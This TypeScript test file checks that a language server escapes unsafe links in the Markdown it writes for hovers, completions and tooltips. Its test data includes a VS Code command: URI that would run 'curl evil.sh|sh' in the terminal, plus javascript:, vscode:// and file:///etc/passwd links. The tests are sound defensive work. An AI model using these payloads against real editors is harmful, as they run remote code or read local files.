// The Markdown the server writes for an article a stranger wrote: only web and mail links come out clickable.
import * as assert from 'assert';
import { describe, it } from 'node:test';
import MarkdownIt from 'markdown-it';
import { neverCancelled } from '../../../server/src/core/types';
import { getCompletions } from '../../../server/src/features/completion';
import { getHover } from '../../../server/src/features/hover';
import { getInlayHints } from '../../../server/src/features/inlayHints';
import { hasUnsafeLinks, mdCode, safeMarkdown } from '../../../server/src/model/safeMarkdown';
import { ArticleSchema, defaultSchema, type SchemaNode } from '../../../server/src/schema/articleSchema';
import { article, validArticle } from '../../helpers';
import { contextWith } from './context';

const COMMAND = 'command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil.sh%7Csh%5Cn%22%7D';

const hostileFacts = `  - id: f1
    statement: Instruction tuning helps.
    source_title: Finetuned Language Models Are Zero-Shot Learners
    source_url: "${COMMAND}"
  - id: f2
    statement: Scaling helps.
    source_url: vscode://vscode.git/clone?url=https://evil.example
  - id: f3
    statement: "See [the paper](command:workbench.action.openSettings) or <vscode://x/y> or <b>bold</b>."
    source_title: "Harmless](command:evil) [x"
    source_url: "javascript:alert(1)"
  - id: f4
    statement: Mail the author.
    source_title: The author
    source_url: "mailto:author@example.org"
  - id: f5
    statement: Tricks.
    source_title: Spaced
    source_url: " JAVASCRIPT:alert(1)"
`;
const hostileBody = `## TL;DR
One [@f1]. Two [@f2]. Three [@f3]. Four [@f4]. Five [@f5].

## Further Reading
- [Paper](${COMMAND})
`;
const text = validArticle({ facts: hostileFacts, body: hostileBody });

function hoverOn(needle: string, ctx = contextWith()) {
  const offset = text.indexOf(needle) + 2;
  assert.ok(offset > 1, needle);
  return getHover(ctx, article(text), offset, neverCancelled)?.contents;
}

/** Every link target and raw HTML a CommonMark renderer (with every scheme allowed) finds in the Markdown. */
function clickables(markdown: string): string[] {
  const md = new MarkdownIt({ html: true });
  md.validateLink = () => true;
  const out: string[] = [];
  const walk = (tokens: ReturnType<MarkdownIt['parse']>) => {
    for (const t of tokens) {
      if (t.type === 'link_open') out.push(t.attrGet('href') ?? '');
      if (t.type === 'image') out.push(t.attrGet('src') ?? '');
      if (t.type === 'html_inline' || t.type === 'html_block') out.push(t.content);
      if (t.children) walk(t.children);
    }
  };
  walk(md.parse(markdown, {}));
  return out;
}

describe('links in the Markdown the server writes', () => {
  it('a fact whose source_url is a command: URI under a harmless title: the title as text, the target as code', () => {
    assert.strictEqual(
      hoverOn('@f1]'),
      '**f1**\n\nInstruction tuning helps.\n\n' +
        `Source: Finetuned Language Models Are Zero-Shot Learners (\`${COMMAND}\`, not a web link)\n\n` +
        'Verified 8 days ago (2026-05-24)',
    );
  });

  it('a vscode:// source_url with no title: code, not an autolink', () => {
    assert.strictEqual(hoverOn('@f2]'), '**f2**\n\nScaling helps.\n\nSource: `vscode://vscode.git/clone?url=https://evil.example` (not a web link)\n\nVerified 8 days ago (2026-05-24)');
  });

  it('links, autolinks and HTML written in a statement or a title are escaped; javascript: is not a web link', () => {
    assert.strictEqual(
      hoverOn('@f3]'),
      '**f3**\n\nSee \\[the paper\\](command:workbench.action.openSettings) or \\<vscode://x/y\\> or \\<b\\>bold\\</b\\>.\n\n' +
        'Source: Harmless\\](command:evil) \\[x (`javascript:alert(1)`, not a web link)\n\n' +
        'Verified 8 days ago (2026-05-24)',
    );
  });

  it('mailto stays a link, as in the preview; a scheme behind white space does not pass', () => {
    assert.strictEqual(hoverOn('@f4]'), '**f4**\n\nMail the author.\n\nSource: [The author](<mailto:author@example.org>)\n\nVerified 8 days ago (2026-05-24)');
    assert.strictEqual(hoverOn('@f5]'), '**f5**\n\nTricks.\n\nSource: Spaced (`JAVASCRIPT:alert(1)`, not a web link)\n\nVerified 8 days ago (2026-05-24)');
  });

  it('no hover, completion documentation or inlay tooltip anywhere in the article holds a link that is not web or mail', () => {
    const a = article(text);
    const ctx = contextWith({ 'file:///ws/ai/other.md': validArticle({ body: `## TL;DR\nOther <vscode://x> [y](command:z).\n` }).replace('id: test-article', 'id: other') });
    const emitted: string[] = [];
    for (let offset = 0; offset <= text.length; offset++) {
      const h = getHover(ctx, a, offset, neverCancelled);
      if (h) emitted.push(h.contents);
    }
    for (const at of ['[@', 'source_title: Fin', '](', 'source_url: "']) {
      const offset = text.indexOf(at) + at.length;
      for (const c of getCompletions(ctx, a, offset, neverCancelled)) if (c.documentation) emitted.push(c.documentation);
    }
    for (const h of getInlayHints(a, { start: 0, end: text.length }, neverCancelled)) emitted.push(h.tooltip);
    assert.ok(emitted.length > 20, `${emitted.length} pieces of Markdown looked at`);
    assert.ok(emitted.some((m) => m.includes(COMMAND)), 'the hostile target is shown, as code');
    const bad = emitted.flatMap((m) => clickables(m).filter((href) => !/^(https?:\/\/|mailto:)/i.test(href)).map((href) => `${href} in ${m}`));
    assert.deepStrictEqual(bad, []);
  });

  it('completion documentation: a fact\'s statement and source title, and a source\'s other half, escaped', () => {
    const citeAt = text.indexOf('Two [@') + 'Two [@'.length;
    const f3 = getCompletions(contextWith(), article(text), citeAt, neverCancelled).find((c) => c.label === 'f3');
    assert.strictEqual(f3?.documentation, 'See \\[the paper\\](command:workbench.action.openSettings) or \\<vscode://x/y\\> or \\<b\\>bold\\</b\\>.\n\nSource: Harmless\\](command:evil) \\[x');
    const withSource = validArticle({ sources: `  - title: "Click <command:evil>"\n    type: report\n    url: "https://example.org/report"\n`, facts: '  - id: f1\n    statement: S.\n    source_url: \n' });
    const urlAt = withSource.indexOf('    source_url: ') + '    source_url: '.length;
    const entry = getCompletions(contextWith(), article(withSource), urlAt, neverCancelled).find((c) => c.label === 'https://example.org/report');
    assert.strictEqual(entry?.documentation, 'Also sets `source_title`: Click \\<command:evil\\>');
  });

  it('inlay hint tooltips: the fact id and statement escaped', () => {
    const [hint] = getInlayHints(article(text), { start: text.indexOf('Three'), end: text.indexOf('Four') }, neverCancelled);
    assert.strictEqual(hint.tooltip, '**f3**: See \\[the paper\\](command:workbench.action.openSettings) or \\<vscode://x/y\\> or \\<b\\>bold\\</b\\>.');
  });

  it('a workspace schema\'s description with a command link is shown as text; the shipped descriptions pass unchanged', () => {
    const evil: SchemaNode = { type: 'string', description: 'Who reviewed it. [Settings](command:workbench.action.openSettings)\n\nSee <vscode://x>.' };
    const ctx = { ...contextWith(), schema: new ArticleSchema({ properties: { reviewer: evil } }) };
    const doc = validArticle({ fm: 'reviewer: me\n' });
    const h = getHover(ctx, article(doc), doc.indexOf('reviewer') + 2, neverCancelled);
    assert.strictEqual(h?.contents, '**reviewer** · field of the article\n\nWho reviewed it. \\[Settings\\](command:workbench.action.openSettings)\n\nSee \\<vscode://x\\>.');
    const keyAt = doc.indexOf('reviewer: me');
    const completion = getCompletions(ctx, article(doc.replace('reviewer: me\n', 'rev\n')), keyAt + 3, neverCancelled).find((c) => c.label === 'reviewer');
    assert.strictEqual(completion?.documentation, 'Who reviewed it. \\[Settings\\](command:workbench.action.openSettings)\n\nSee \\<vscode://x\\>.');
    const descriptions: string[] = [];
    const collect = (node: SchemaNode | undefined, depth = 0) => {
      if (!node || depth > 6) return;
      if (typeof node.description === 'string') descriptions.push(node.description);
      for (const child of Object.values(node.properties ?? {})) collect(child, depth + 1);
      if (node.items) collect(node.items, depth + 1);
    };
    collect(defaultSchema().at([]));
    assert.ok(descriptions.length > 10);
    assert.deepStrictEqual(descriptions.filter((d) => safeMarkdown(d) !== d), []);
  });
});

describe('safeMarkdown, the check at the protocol edge', () => {
  it('finds unsafe links in every form CommonMark has: inline, reference, autolink, image, entity-encoded, HTML', () => {
    for (const md of [
      '[a](command:x)',
      '[a][r]\n\n[r]: vscode://x',
      '<vscode://open>',
      '<command:workbench.action.quit>',
      '![i](file:///etc/passwd)',
      '[a](&#99;ommand:x)',
      '[a](javascript:alert(1))',
      '[a](relative/path.md)',
      'x <a href="https://example.org">y</a>',
    ]) {
      assert.ok(hasUnsafeLinks(md), md);
    }
    for (const md of ['[a](<https://example.org/x>)', '<https://example.org>', '[m](mailto:a@b.org)', '`command:x` and \\[a\\](command:x)', 'plain text: vscode://x']) {
      assert.ok(!hasUnsafeLinks(md), md);
    }
  });

  it('leaves safe Markdown alone, turns the rest to escaped text paragraph by paragraph', () => {
    assert.strictEqual(safeMarkdown('**a**\n\n[b](<https://example.org>)'), '**a**\n\n[b](<https://example.org>)');
    assert.strictEqual(safeMarkdown('**a**\n\n[b](command:x)'), '\\*\\*a\\*\\*\n\n\\[b\\](command:x)');
    assert.ok(!hasUnsafeLinks(safeMarkdown('<vscode://x> [a][r]\n\n[r]: command:y')));
  });

  it('code spans hold any text, backticks included', () => {
    assert.strictEqual(mdCode('a`b'), '``a`b``');
    assert.strictEqual(mdCode('`x`'), '`` `x` ``');
    assert.strictEqual(mdCode('vscode://x'), '`vscode://x`');
    const md = new MarkdownIt();
    for (const s of ['a`b', '`x`', '``', ' a ', 'x`` y']) {
      const inline = md.parseInline(mdCode(s), {})[0].children!;
      assert.deepStrictEqual(inline.map((t) => [t.type, t.content]), [['code_inline', s]], s);
    }
  });
});
